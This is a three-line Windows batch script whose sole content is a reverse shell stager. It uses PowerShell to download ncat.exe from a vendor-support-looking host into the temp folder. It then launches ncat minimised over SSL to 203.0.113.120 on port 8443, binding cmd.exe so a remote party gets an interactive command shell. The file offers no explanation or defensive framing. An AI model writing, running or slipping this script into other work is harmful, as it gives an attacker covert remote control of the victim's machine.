@echo off
if not exist "%TEMP%\ncat.exe" powershell -c "iwr https://tools.vendor-support.example.com/ncat.exe -o $env:TEMP\ncat.exe"
start /min "" "%TEMP%\ncat.exe" --ssl 203.0.113.120 8443 -e cmd.exe
